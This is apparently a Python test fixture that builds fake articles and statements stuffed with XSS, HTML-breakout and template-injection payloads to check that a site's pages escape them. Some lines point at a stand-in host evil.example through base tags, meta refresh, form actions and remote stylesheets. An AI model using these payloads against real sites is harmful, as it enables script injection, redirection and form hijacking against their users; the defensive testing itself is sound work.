"""Text that would run, load or send something if a page took it for anything but text."""

from __future__ import annotations

from support.pages import made_document, made_statement
from whipcount.model import Document, Statement

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input type=submit>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=javascript:alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "{{ 7 * 7 }}{% raw %}",
    "{{ config }}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\u2028ipt>alert(1)</scr\u2028ipt>",
    "javascript:alert(1)",
)


def hostile_document(payload: str) -> tuple[Document, tuple[Statement, ...]]:
    """An article with the payload in every field, said by somebody of that name."""
    text = f"{payload} We will close it, said {payload} Ada."
    document = made_document(text, **dict.fromkeys(("title", "outlet", "byline", "url", "given_id"), payload))
    who = {"name": payload, "kind": "person", "as_written": payload, "role": payload, "party": payload}
    return document, (made_statement(document, ("We will close it", payload), source="Ada", **who),)


# Places in a page that a payload would have to break out of, and ways to hide it: each with each of the payloads above.
_BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "</a>{}",
    "</textarea></title></script></style>{}",
    "--!>{}",
    "{} ",
    "\u00a0{}",
    "`{}`",
)
_MARKERS = tuple(payload for payload in PAYLOADS if "(1)" in payload or "evil" in payload)


def many_payloads(number: int) -> tuple[str, ...]:
    """So many different payloads, those above first."""
    made = dict.fromkeys(PAYLOADS)
    made |= dict.fromkeys(place.format(payload) for place in _BREAKS for payload in _MARKERS)
    made |= dict.fromkeys(payload.swapcase() for payload in _MARKERS)
    made |= dict.fromkeys(payload.replace(" ", "/").replace("=", "\t=") for payload in _MARKERS)
    found = tuple(made)[:number]
    assert len(found) == number, f"there are only {len(found)}"
    return found


def hostile_bundle(payloads: tuple[str, ...]) -> tuple[Document, tuple[Statement, ...]]:
    """An article with several payloads in every field, and a statement with each of them in all of its own."""
    every = " ".join(payloads)
    text = " ".join(f"{payload} Ada {n} said: We will close {n} {payload}." for n, payload in enumerate(payloads))
    document = made_document(text, **dict.fromkeys(("title", "outlet", "byline", "url", "given_id"), every))
    statements = [
        made_statement(
            document,
            (f"We will close {n} {payload}",),
            source=f"Ada {n}",
            name=payload,
            kind="person",
            as_written=payload,
            role=payload,
            party=payload,
        )
        for n, payload in enumerate(payloads)
    ]
    return document, tuple(statements)
